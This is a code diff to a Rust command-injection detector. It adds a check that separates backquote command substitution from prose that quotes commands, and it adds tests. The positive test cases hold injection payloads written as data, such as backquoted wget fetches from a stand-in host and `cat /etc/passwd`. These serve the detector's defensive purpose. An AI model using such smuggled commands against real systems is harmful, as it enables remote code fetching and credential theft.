@@ -67,6 +67,10 @@ fn injects_command(value: &str) -> bool {
                 from = at + 1;
                 continue;
             }
+            [b'`', ..] if !backquote_touches(value, at) => {
+                from = at + 1;
+                continue;
+            }
             _ => 1,
         };
         let rest = value[at + separator..].trim_start_matches([';', '|', ' ']);
@@ -76,6 +80,21 @@ fn injects_command(value: &str) -> bool {
         }
     }
     false
+}
+
+/// Whether the backquote at `at` opens a substitution bound to the value: at its start or right
+/// after a character (`name=a\`uname -a\``), and closed at the value's end or before a separator
+/// (or never closed). Prose that quotes a command as code, as a search for documentation does
+/// (``run \`ls -la\` ``, ``\`id\` column``, ``\`hostname\` vs \`uname -n\` ``), is not. Reads at
+/// most up to the next backquote, so a run of backquotes stays linear.
+fn backquote_touches(value: &str, at: usize) -> bool {
+    let bound_before = at == 0 || !value.as_bytes()[at - 1].is_ascii_whitespace();
+    let after = &value[at + 1..];
+    bound_before
+        && after.find('`').is_none_or(|close| {
+            let rest = after[close + 1..].trim_end();
+            rest.is_empty() || rest.starts_with([';', '|', '&'])
+        })
 }
 
 /// The longest name in [`COMMANDS`].
@@ -178,6 +197,9 @@ mod tests {
             "q=x|sleep 5",
             "dir=$(wget http://198.51.100.1/x)",
             "name=a`uname -a`",
+            "host=`id`",
+            "q=x`wget http://198.51.100.1/x`;",
+            "q=`cat /etc/passwd`",
             "ip=1.1.1.1; ping -c 3 198.51.100.1",
         ] {
             assert!(has_injected_command(q), "{q}");
@@ -214,6 +236,10 @@ mod tests {
             "filter=status;ls",
             "tpl=${name}",
             "q=id",
+            "q=run `ls -la`",
+            "q=`hostname` vs `uname -n`",
+            "q=`sleep 5` in script",
+            "q=`id` column",
             "",
         ] {
             assert!(!has_injected_command(q), "{q}");
